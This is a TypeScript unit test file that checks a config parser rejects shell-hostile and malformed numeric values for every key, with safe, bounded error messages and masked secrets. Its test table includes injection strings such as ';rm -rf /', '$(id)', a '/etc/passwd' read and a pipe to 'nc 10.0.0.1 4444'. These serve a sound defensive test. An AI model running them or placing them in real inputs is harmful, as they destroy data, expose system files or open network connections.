// Hostile configuration values (quotes, spaces, command substitution, `;rm -rf /`, backticks,
// newlines, control and bidi characters, 100 KB strings, huge and odd numbers) are rejected by
// parseConfig (lib/config.ts) with the key named, every key of CONFIG_KEYS in turn, so a key added
// later is covered too. That none reaches a shell unquoted is tests/unit/program.test.ts's guard.
import { CONFIG_KEYS, ConfigKeySpec, InvalidConfigError, parseConfig } from "../../lib/config";

const NAMESPACE = "container-links";

/** Values a shell, a YAML file or a terminal would treat specially. None is valid for any key. */
const SHELL_HOSTILE: Record<string, string> = {
  "double quotes": 'has "double quotes"',
  "single quote": "it's",
  space: "with space",
  "leading space": " redis",
  "trailing space": "redis ",
  tab: "a\tb",
  "command substitution": "$(id)",
  "command separator": ";rm -rf /",
  backticks: "`id`",
  "parameter expansion": "${IFS}cat${IFS}/etc/passwd",
  variable: "$HOME",
  pipe: "a|nc 10.0.0.1 4444",
  "and list": "redis&&reboot",
  redirection: "a>/etc/passwd",
  newline: "redis\nrm -rf /",
  "carriage return": "redis\r\nX-Injected: 1",
  "NUL byte": "redis\u0000",
  "escape sequence": "redis\u001b[2J",
  "bidi override": "redis\u202egnp.exe",
  "option-like": "--privileged",
  glob: "*",
  tilde: "~root",
  "100 KB": "a".repeat(100 * 1024),
};

/** Odd numbers for the integer keys (ports, counts, seconds). */
const NUMBER_HOSTILE: Record<string, string> = {
  huge: "99999999999999999999999",
  "2^32": "4294967296",
  "beyond 2^53": "9007199254740993",
  "port range + 1": "65536",
  zero: "0",
  negative: "-1",
  exponent: "1e3",
  hex: "0x10",
  octal: "010",
  fraction: "3.5",
  plus: "+80",
  padded: " 80 ",
  infinity: "Infinity",
  "not a number": "NaN",
};

function casesFor(spec: ConfigKeySpec): [string, string][] {
  const shell = Object.entries(SHELL_HOSTILE);
  return spec.type === "integer" ? [...shell, ...Object.entries(NUMBER_HOSTILE)] : shell;
}

const TABLE = CONFIG_KEYS.flatMap((spec) =>
  casesFor(spec).map(([what, value]) => ({ key: spec.key, secret: spec.secret ?? false, what, value })),
);

describe("parseConfig rejects hostile values, naming the key", () => {
  test("the table covers every key", () => {
    expect(new Set(TABLE.map((c) => c.key))).toEqual(new Set(CONFIG_KEYS.map((k) => k.key)));
  });

  test.each(TABLE)("$key: $what", ({ key, secret, value }) => {
    let thrown: unknown;
    try {
      parseConfig((k) => (k === key ? value : undefined));
    } catch (err) {
      thrown = err;
    }
    expect(thrown).toBeInstanceOf(InvalidConfigError);
    const { errors, message } = thrown as InvalidConfigError;
    // Exactly one problem, for this key: the value was refused, not passed on to trip something later.
    expect(errors.map((e) => e.key)).toEqual([key]);
    expect(message).toContain(`${NAMESPACE}:${key}: `);
    // The message is safe to print: printable ASCII on each line, bounded whatever the value's size.
    for (const line of message.split("\n")) expect(line).toMatch(/^[\x20-\x7e]*$/);
    expect(message.length).toBeLessThan(1_000);
    if (secret) {
      expect(errors[0].value).toBe("(secret)");
      expect(message).not.toContain(value);
    }
  });
});
